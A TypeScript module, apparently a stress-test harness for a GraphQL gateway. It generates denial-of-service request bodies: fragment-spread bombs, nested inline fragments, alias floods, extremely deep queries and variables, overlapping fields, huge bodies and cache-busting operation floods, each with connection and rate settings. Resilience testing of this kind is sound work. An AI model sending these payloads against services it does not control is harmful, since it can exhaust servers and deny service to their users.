/** Documents that cost their sender little and are made to cost the gateway much. */

export type Attack = {
  readonly name: string;
  /** The body of the request; `@@@@` is another number each time. */
  readonly body: string;
  /** How many different numbers. */
  readonly variants?: number;
  readonly connections: number;
  /** Requests a second. */
  readonly rate: number;
};

const asBody = (query: string) => JSON.stringify({ query });
const many = { connections: 32, rate: 200 };

/** Each fragment spreads the next one twice: thirty lines say a thousand million fields. */
function bomb(depth: number): string {
  const fragments = Array.from(
    { length: depth },
    (_, index) => `fragment f${index} on Post { id ...f${index + 1} ...f${index + 1} }`,
  );
  return `{ post(id: 1) { ...f0 } } ${fragments.join(' ')} fragment f${depth} on Post { id }`;
}

/** The same without names: inline fragments side by side in each other, so many that the token limit just lets them in. */
function wide(depth: number): string {
  return depth === 0 ? 'id' : `... on Post { ${wide(depth - 1)} ${wide(depth - 1)} }`;
}

function aliases(count: number): string {
  return `{ post(id: 1) { ${Array.from({ length: count }, (_, index) => `a${index.toString(36)}:id`).join(' ')} } }`;
}

const deep = (depth: number) => `${'{a'.repeat(depth)}${'}'.repeat(depth)}`;

/** Each pair of these fields has to be compared with each other, if they are validated at all. */
const overlapping = `{ post(id: 1) { ${'user { id name } '.repeat(300)} } }`;

export const attacks: readonly Attack[] = [
  { ...many, name: 'fragment bombs, 2^30', body: asBody(bomb(30)) },
  { ...many, name: 'inline fragments, 2^7', body: asBody(`{ post(id: 1) { ${wide(7)} } }`) },
  { ...many, name: '10,000 aliases', body: asBody(aliases(10_000)) },
  { ...many, name: 'a document 20,000 deep', body: asBody(deep(20_000)) },
  {
    ...many,
    name: 'variables 40,000 deep',
    body: `{"query":"{ __typename }","variables":{"a":${'['.repeat(40_000)}${']'.repeat(40_000)}}}`,
  },
  { ...many, name: 'fields that overlap', body: asBody(overlapping) },
  { ...many, name: 'bodies of 900 KB', body: asBody(`{ __typename } #${'x'.repeat(900_000)}`) },
  {
    name: '2,000 distinct operations a second',
    body: asBody('{ a@@@@: post(id: 1) { id title } }'),
    variants: 9000,
    connections: 32,
    rate: 2000,
  },
];
